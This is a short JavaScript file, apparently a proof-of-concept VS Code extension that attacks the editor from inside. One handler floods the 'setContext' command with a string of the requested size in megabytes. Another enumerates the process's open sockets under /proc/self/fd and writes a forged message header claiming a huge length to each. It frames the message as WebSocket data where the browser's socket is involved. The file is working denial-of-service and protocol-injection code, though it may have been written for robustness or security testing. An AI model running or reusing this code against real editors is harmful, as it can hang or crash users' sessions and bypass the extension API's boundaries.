"use strict";
const fs = require("node:fs");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "message", {
    async one({ message }, vscode) {
      const text = "x".repeat(message << 20);
      await vscode.commands.executeCommand("setContext", "proof.huge", text);
      return "sent";
    },
    // Past the API: the head of a message on every socket that this process holds, and some of its body.
    // `framed` where one of them is the browser's own, which takes WebSocket frames.
    async claim({ framed }) {
      const message = Buffer.concat([Buffer.alloc(13), Buffer.alloc(16384, "x")]); // more could wait for ever
      message[0] = 1;
      message.writeUInt32BE(0x80000000, 9);
      const bytes = framed ? Buffer.concat([Buffer.from([0x82, 126, message.length >> 8, message.length & 255]), message]) : message;
      let sockets = 0;
      for (const name of fs.readdirSync("/proc/self/fd")) {
        try {
          if (!fs.readlinkSync(`/proc/self/fd/${name}`).startsWith("socket:")) continue;
          fs.writeSync(Number(name), bytes);
          sockets += 1;
        } catch {
          // Not this one, or it is full.
        }
      }
      return `sent to ${sockets}`;
    },
  });
